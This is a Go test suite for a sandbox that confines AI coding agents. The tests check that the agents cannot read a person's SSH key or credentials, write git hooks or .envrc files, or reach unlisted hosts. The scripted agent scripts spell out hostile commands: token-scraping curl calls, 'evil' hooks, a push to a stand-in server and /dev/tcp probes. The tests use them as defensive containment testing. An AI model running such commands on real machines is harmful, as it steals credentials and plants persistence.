//go:build linux

package net_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"ringfence/test/rig"
)

// known are the agents that "ringfence run" knows by name, and how each is asked to do
// something without a terminal.
var known = []struct {
	agent agent
	typed []string
	mine  string // a file in the person's home that it has settings in
	text  string // what the person's has: a setting that it keeps, and a key that it does not
	kept  string
}{
	{agents[0], []string{"-p", "Look around.", "--output-format", "stream-json", "--verbose"}, ".claude.json", `{"theme":"light-daltonized","oauthAccount":{"accessToken":"tok-of-the-person-1"},"mcpServers":{"own":{"command":"x"}}}`, "light-daltonized"},
	{agents[1], []string{"exec", "--skip-git-repo-check", "--json", "Look around."}, ".codex/config.toml", "model = \"scripted\"\nmodel_provider = \"scripted\"\n[model_providers.scripted]\nname = \"scripted\"\nbase_url = \"${AT}/v1\"\nwire_api = \"responses\"\nenv_key = \"OPENAI_API_KEY\"\nexperimental_bearer_token = \"tok-of-the-person-1\"\n", "scripted"},
	{agent{name: "gemini", provider: "google", variable: "GEMINI_API_KEY", key: "AIzaSyOf1The2Environment3Of4The5Client6Seven"}, []string{"-m", "gemini-2.5-flash", "-p", "Look around."}, ".gemini/settings.json", `{"ui":{"theme":"Atom One"},"security":{"auth":{"apiKey":"tok-of-the-person-1"}},"mcpServers":{"own":{"command":"x"}}}`, "Atom One"},
	{agent{name: "opencode", provider: "anthropic", variable: "ANTHROPIC_API_KEY", key: "sk-ant-api03-From7The8Environment9Of0The1Client2Only3"}, []string{"run", "Look around."}, ".config/opencode/opencode.json", `{"model":"anthropic/claude-sonnet-4-5","small_model":"anthropic/claude-sonnet-4-5","provider":{"anthropic":{"options":{"baseURL":"${AT}/v1","apiKey":"tok-of-the-person-1"}}},"mcp":{"own":{"type":"local","command":["x"]}}}`, "claude-sonnet-4-5"},
}

// around is what the model has an agent do: what it may, and what it may not. It is a file,
// because agents have opinions about substitutions in commands.
const around = `cat a.txt; cat "$HOME/.ssh/id"; echo made >made.txt; mkdir -p .git/hooks; echo evil >.git/hooks/post-commit
curl -sS -m 20 https://unlisted.example/; curl -sS -m 20 -H "Authorization: Bearer $(cat "$HOME"/.claude.json "$HOME"/.codex/config.toml "$HOME"/.gemini/settings.json "$HOME"/.config/opencode/opencode.json 2>/dev/null | grep -o 'Bearer [A-Z0-9]*' | head -1 | cut -d' ' -f2)" -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -H 'MCP-Protocol-Version: 2026-07-28' -H 'Mcp-Method: server/discover' -d '{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"c","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}}}' http://127.0.0.1:3129/mcp
echo '{"name":"x","version":"1.0.0"}' >package.json
npm install --registry https://server.example:$TLS/npm/ --cache /tmp/cache --no-audit --no-fund --loglevel error tiny@1.0.0 && echo "installed $(ls node_modules)"
git -c user.name=x -c user.email=x@example.com commit -q --allow-empty -m one && echo committed
git push -q https://server.example:$TLS/git/repo.git HEAD:refs/heads/evil || echo not pushed
ls -A "$HOME"; echo looked; echo kept >"$HOME/note"`

// TestRun: an agent that is known needs no flags: it finds its program, has a home of its own
// that stays, settings of the person but no key, the model by a key on loan, and the tools of
// ringfence. What the policy does not allow does not happen.
func TestRun(t *testing.T) {
	for _, k := range known {
		a := k.agent
		t.Run(a.name, func(t *testing.T) {
			p, m, at := agentPlace(t, a, "sh around.sh")
			p.need(t, reachCase{needs: []string{"npm", "git"}})
			m.tool, m.args = "read_text_file", `{"path":"b.txt"}`
			close(m.seen)
			secret := filepath.Join(p.Person, ".ssh", "id")
			mine := filepath.Join(p.Person, k.mine)
			servers, err := p.Servers(rig.Filesystem())
			if err != nil {
				t.Fatal(err)
			}
			p.policy, err = p.Policy(t.Context(), slices.Concat(working(a), []string{"The agent may fetch pages from " + allowed + ":" + p.world.tls + "."})...)
			err = errors.Join(err,
				os.MkdirAll(filepath.Dir(secret), 0o700), os.WriteFile(secret, []byte("the person's own key"), 0o600), os.MkdirAll(filepath.Dir(mine), 0o700),
				os.WriteFile(mine, []byte(strings.ReplaceAll(k.text, "${AT}", at)), 0o600), os.WriteFile(filepath.Join(p.Work, "a.txt"), []byte("swordfish\n"), 0o600),
				os.WriteFile(filepath.Join(p.Work, "b.txt"), []byte("told by a tool\n"), 0o600), os.WriteFile(filepath.Join(p.Work, "around.sh"), []byte(p.script(reachCase{script: around})), 0o600), exec.Command("git", "init", "-q", p.Work).Run())
			if err != nil {
				t.Fatal(err)
			}
			for range 2 { // the second finds its home
				p.runs(t, a, at, servers, k.typed)
			}
			_, _, sent := m.heard()
			for _, want := range []string{"swordfish", "response 403", "installed tiny", "committed", "not pushed", "looked", "serverInfo", "told by a tool", "No such file or directory"} {
				if !strings.Contains(sent, want) {
					t.Errorf("the model did not hear of %q", want)
				}
			}
			for _, no := range []string{"the person's own key", "tok-of-the-person-1"} {
				if strings.Contains(sent, no) {
					t.Errorf("the model heard of %q", no)
				}
			}
			p.settled(t, k.mine, k.kept)
			if t.Failed() {
				t.Log(sent)
			}
		})
	}
}

// runs has an agent look around.
func (p *place) runs(t *testing.T, a agent, at, servers string, typed []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	cmd := p.running(ctx, a, at, append([]string{"run", "--ask", "never", "--policy", p.policy, "--servers", servers, a.name}, typed...)...)
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "all done") {
		t.Fatalf("%v\n%s", err, out)
	}
}

// running is the program with args, for a person who has agents and the key of a.
func (p *place) running(ctx context.Context, a agent, at string, args ...string) *exec.Cmd {
	cmd := p.Command(ctx, args...)
	cmd.Env = append(cmd.Env, "ANTHROPIC_BASE_URL="+at, "GOOGLE_GEMINI_BASE_URL="+at)
	for i, kv := range cmd.Env {
		if path, ok := strings.CutPrefix(kv, "PATH="); ok {
			cmd.Env[i] = "PATH=" + strings.Join([]string{filepath.Join(p.node, ".bin"), filepath.Join(p.node, "opencode-linux-x64", "bin"), filepath.Join(p.node, "opencode-linux-arm64", "bin"), path}, ":")
		}
	}
	if !a.kept {
		cmd.Env = append(cmd.Env, a.variable+"="+a.key)
	}
	return cmd
}

// settled checks what is left of the agent on this machine.
func (p *place) settled(t *testing.T, mine, kept string) {
	t.Helper()
	homes, err := filepath.Glob(filepath.Join(p.Own, "homes", "*", "*"))
	if err != nil || len(homes) != 1 {
		t.Fatalf("homes %q, %v", homes, err)
	}
	read := func(path ...string) string {
		text, err := os.ReadFile(filepath.Join(path...))
		if err != nil {
			return "-"
		}
		return string(text)
	}
	if got := read(homes[0], mine); !strings.Contains(got, kept) || strings.Contains(got, "tok-of-the-person-1") || strings.Contains(got, `"own"`) {
		t.Errorf("its settings are %s", got)
	}
	for path, want := range map[string]string{
		filepath.Join(homes[0], "note"): "kept\n", filepath.Join(p.Person, "note"): "-", filepath.Join(p.Person, ".claude"): "-",
		filepath.Join(p.Work, "made.txt"): "made\n", filepath.Join(p.Work, ".git", "hooks", "post-commit"): "-", filepath.Join(p.Person, ".ssh", "id"): "the person's own key",
	} {
		if got := read(path); got != want {
			t.Errorf("%s holds %q, want %q", path, got, want)
		}
	}
	record, err := p.Run(t.Context(), "ledger", "show", "--json")
	for _, want := range []string{"home=own", "unlisted.example", `"infer"`, "read_text_file"} {
		if err != nil || !strings.Contains(string(record), want) {
			t.Errorf("no %s on record, %v", want, err)
		}
	}
	if _, err := p.Run(t.Context(), "ledger", "verify"); err != nil {
		t.Error(err)
	}
}

// A screen is a terminal of tmux with a program in it.
type screen struct {
	t      *testing.T
	socket string
}

// onScreen starts cmd in a terminal.
func onScreen(t *testing.T, cmd *exec.Cmd) *screen {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("needs tmux (make test installs it)")
		}
		t.Skip("needs tmux (make test installs it)")
	}
	s := &screen{t, filepath.Join(t.TempDir(), "tmux")}
	start := exec.Command("tmux", append([]string{"-S", s.socket, "-f", "/dev/null", "new-session", "-d", "-x", "110", "-y", "36"}, cmd.Args...)...)
	start.Env, start.Dir = append(cmd.Env, "TERM=xterm-256color", "LC_ALL=C.UTF-8"), cmd.Dir
	if out, err := start.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("tmux", "-S", s.socket, "kill-server").Run() })
	return s
}

func (s *screen) text() string {
	out, err := exec.Command("tmux", "-S", s.socket, "capture-pane", "-p").CombinedOutput()
	if err != nil {
		return "(ended) " + string(out)
	}
	return string(out)
}

// press types keys, as tmux names them.
func (s *screen) press(keys ...string) {
	s.t.Helper()
	if out, err := exec.Command("tmux", append([]string{"-S", s.socket, "send-keys"}, keys...)...).CombinedOutput(); err != nil {
		s.t.Fatalf("%v\n%s", err, out)
	}
}

// shows waits until one of texts is to be seen, and returns which.
func (s *screen) shows(texts ...string) string {
	s.t.Helper()
	deadline := time.Now().Add(patience)
	for time.Now().Before(deadline) {
		now := s.text()
		for _, text := range texts {
			if strings.Contains(now, text) {
				return text
			}
		}
		select {
		case <-s.t.Context().Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	s.t.Fatalf("none of %q on\n%s", texts, s.text())
	return ""
}

// settles waits as long as a page of ours is deaf to what is typed.
func (s *screen) settles() {
	select {
	case <-s.t.Context().Done():
	case <-time.After(800 * time.Millisecond):
	}
}

// TestRunTerminal: an agent has the terminal as if there were no box: it shows its page, is
// typed to, is told of another size, and ends.
func TestRunTerminal(t *testing.T) {
	a := agents[0]
	p, m, at := agentPlace(t, a, "cat a.txt; echo looked")
	close(m.seen)
	if err := os.WriteFile(filepath.Join(p.Work, "a.txt"), []byte("swordfish\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := p.running(t.Context(), a, at, "run", "--policy", p.policy, a.name)
	s := onScreen(t, cmd)
	s.shows("bypass permissions on")
	s.press("Look around.")
	s.press("Enter")
	s.shows("all done")
	if out, err := exec.Command("tmux", "-S", s.socket, "resize-window", "-x", "90", "-y", "30").CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	s.shows("all done")
	s.press("C-c")
	s.press("C-c")
	s.shows("(ended)")
}

// TestRunTerminals: so do the others: none asks anything before it can be typed to.
func TestRunTerminals(t *testing.T) {
	model := map[int][]string{2: {"-m", "gemini-2.5-flash"}} // or it asks another one which to ask
	for i, shows := range map[int]string{1: "›", 2: "Type your message", 3: "Ask anything"} {
		k := known[i]
		t.Run(k.agent.name, func(t *testing.T) {
			p, m, at := agentPlace(t, k.agent, "cat a.txt; echo looked")
			close(m.seen)
			mine := filepath.Join(p.Person, k.mine)
			if err := errors.Join(os.WriteFile(filepath.Join(p.Work, "a.txt"), []byte("swordfish\n"), 0o600), os.MkdirAll(filepath.Dir(mine), 0o700),
				os.WriteFile(mine, []byte(strings.ReplaceAll(k.text, "${AT}", at)), 0o600)); err != nil {
				t.Fatal(err)
			}
			s := onScreen(t, p.running(t.Context(), k.agent, at, append([]string{"run", "--policy", p.policy, k.agent.name}, model[i]...)...))
			s.shows(shows)
			s.settles() // pasted text is not a question
			s.press("Look around.")
			s.settles()
			s.press("Enter")
			s.shows("all done")
			if out, err := exec.Command("tmux", "-S", s.socket, "resize-window", "-x", "90", "-y", "30").CombinedOutput(); err != nil {
				t.Fatalf("%v %s", err, out)
			}
			s.shows("all done")
			if _, _, sent := m.heard(); !strings.Contains(sent, "swordfish") || !strings.Contains(sent, "looked") {
				t.Error("the model did not hear of what is in the workspace")
			}
			until(t, "it has ended", patience, func() bool { // some want it once, some twice
				_ = exec.Command("tmux", "-S", s.socket, "send-keys", "C-c").Run()
				s.settles()
				return strings.Contains(s.text(), "(ended)")
			})
		})
	}
}

// TestRunJSON: an agent that works and ends says in JSON what it did, and may have a workspace
// that was made for it.
func TestRunJSON(t *testing.T) {
	k := known[1]
	p, m, at := agentPlace(t, k.agent, "echo made >made.txt")
	close(m.seen)
	mine := filepath.Join(p.Person, k.mine)
	if err := errors.Join(os.MkdirAll(filepath.Dir(mine), 0o700), os.WriteFile(mine, []byte(strings.ReplaceAll(k.text, "${AT}", at)), 0o600)); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	out, err := p.running(ctx, k.agent, at, "start", "--json", "--fresh", "--ask", "never", "--policy", p.policy, "--agent", "codex", "--", "exec", "--skip-git-repo-check", "Look around.").Output()
	var said struct {
		Status int
		Steps  []struct{ Kind, Text, Tool string }
	}
	if err = errors.Join(err, json.Unmarshal(out, &said)); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	kinds := ""
	for _, s := range said.Steps {
		kinds += s.Kind + " "
	}
	if said.Status != 0 || !strings.Contains(kinds, "call result") || !strings.Contains(string(out), "all done") {
		t.Errorf("%s\n%s", kinds, out)
	}
	if made, err := filepath.Glob(filepath.Join(p.Person, "ringfence-work", "*", "made.txt")); err != nil || len(made) != 1 {
		t.Errorf("made %q, %v", made, err)
	}
}

// TestStart: the commands of docs/start.md, typed word for word, end in an agent that works
// in a box.
func TestStart(t *testing.T) {
	text, err := os.ReadFile("../../docs/start.md")
	if err != nil {
		t.Fatal(err)
	}
	_, block, ok := strings.Cut(string(text), "```console\n")
	block, _, ended := strings.Cut(block, "```")
	lines := strings.Split(strings.TrimSpace(block), "\n")
	if !ok || !ended || len(lines) != 3 {
		t.Fatalf("its first block has the lines %q", lines)
	}
	a := agents[0]
	p, m, at := agentPlace(t, a, "cat a.txt; echo looked")
	close(m.seen)
	project := filepath.Join(p.Work, "your", "project")
	err = errors.Join(os.MkdirAll(project, 0o700), os.WriteFile(filepath.Join(project, "a.txt"), []byte("swordfish\n"), 0o600))
	if err != nil {
		t.Fatal(err)
	}
	cmd := p.running(t.Context(), agent{name: a.name, kept: true}, at)
	cmd.Args = []string{"/bin/sh"}
	for i, kv := range cmd.Env {
		if path, ok := strings.CutPrefix(kv, "PATH="); ok {
			cmd.Env[i] = "PATH=" + filepath.Dir(p.Bin) + ":" + path
		}
	}
	s := onScreen(t, cmd)
	for _, line := range lines {
		command, ok := strings.CutPrefix(line, "$ ")
		if !ok {
			t.Fatalf("no command: %s", line)
		}
		s.press(command, "Enter")
	}
	s.shows("yes")
	s.press("yes", "Enter")
	s.shows("bypass permissions on")
	s.press("Look around.")
	s.press("Enter")
	s.shows("all done")
	if _, keys, _ := m.heard(); len(keys) != 1 || keys[0] != "sk-ant-api03-your-own-key" {
		t.Errorf("the model was shown %q", keys)
	}
}

// TestRunInContainers: an agent of this machine works in a container as it does in a native
// box, with its home, its model and its tools. What it changes is in the workspace, and what
// the machine runs later is held; or all of it waits for a review.
func TestRunInContainers(t *testing.T) {
	inEngines(t, func(t *testing.T, name, socket, image string) {
		for _, live := range []bool{true, false} {
			t.Run(map[bool]string{true: "live", false: "review"}[live], func(t *testing.T) { runInContainer(t, name, socket, image, live) })
		}
	})
}

func runInContainer(t *testing.T, name, socket, image string, live bool) {
	a := agents[0]
	p, m, at := agentPlace(t, a, "bash look.sh")
	close(m.seen)
	p.Work = filepath.Join(p.Person, "work") // nobody in a container gets through the home of root
	real, err := filepath.EvalSymlinks(filepath.Join(p.node, ".bin", "claude"))
	p.node = filepath.Join(filepath.Dir(p.Person), "agents")
	err = errors.Join(err, os.MkdirAll(filepath.Join(p.node, ".bin"), 0o755), os.Link(real, filepath.Join(p.node, ".bin", "claude")))
	if err != nil {
		t.Fatal(err)
	}
	p.boxes(t, map[string]any{"container": map[string]any{"host": "unix://" + socket, "runtime": name, "image": image}})
	err = errors.Join(os.WriteFile(filepath.Join(p.Work, "a.txt"), []byte("swordfish\n"), 0o600), os.MkdirAll(filepath.Join(p.Work, ".git", "hooks"), 0o700),
		os.WriteFile(filepath.Join(p.Work, "look.sh"), []byte(`cat a.txt; echo made >made.txt; echo evil >.envrc; echo evil >.git/hooks/pre-commit; ls -A ~; echo kept >~/note; exec 3<>/dev/tcp/127.0.0.1/3129 && printf 'GET /mcp HTTP/1.0\r\nHost: 127.0.0.1:3129\r\n\r\n' >&3 && head -1 <&3; echo looked`), 0o600))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	args := []string{"run", "--ask", "never", "--policy", p.policy, "--tier", "container", a.name, "-p", "Look around."}
	layer := "held-names"
	if !live {
		args, layer = slices.Insert(args, len(args)-3, "--review"), "workspace=copy"
	}
	cmd := p.running(ctx, a, at, args...)
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "all done") {
		t.Fatalf("%v\n%s", err, out)
	}
	_, _, sent := m.heard()
	for _, want := range []string{"swordfish", "401 Unauthorized", "looked"} {
		if !strings.Contains(sent, want) {
			t.Errorf("the model did not hear of %q", want)
		}
	}
	if j := strings.Index(sent, "tool_result"); t.Failed() && j >= 0 {
		t.Log(sent[j:min(len(sent), j+1500)])
	}
	notes, err := filepath.Glob(filepath.Join(p.Own, "homes", "*", "*", "note"))
	if err != nil || len(notes) != 1 {
		t.Errorf("notes %q, %v", notes, err)
	}
	for file, there := range map[string]bool{"made.txt": live, ".envrc": false, ".git/hooks/pre-commit": false} {
		if _, err := os.Stat(filepath.Join(p.Work, file)); (err == nil) != there {
			t.Errorf("%s is in the workspace: %v", file, err == nil)
		}
	}
	record, err := p.Run(t.Context(), "ledger", "show", "--json")
	if err != nil || !strings.Contains(string(record), "home=own") || !strings.Contains(string(record), layer) {
		t.Errorf("its home, or %s, is not on record, %v", layer, err)
	}
}
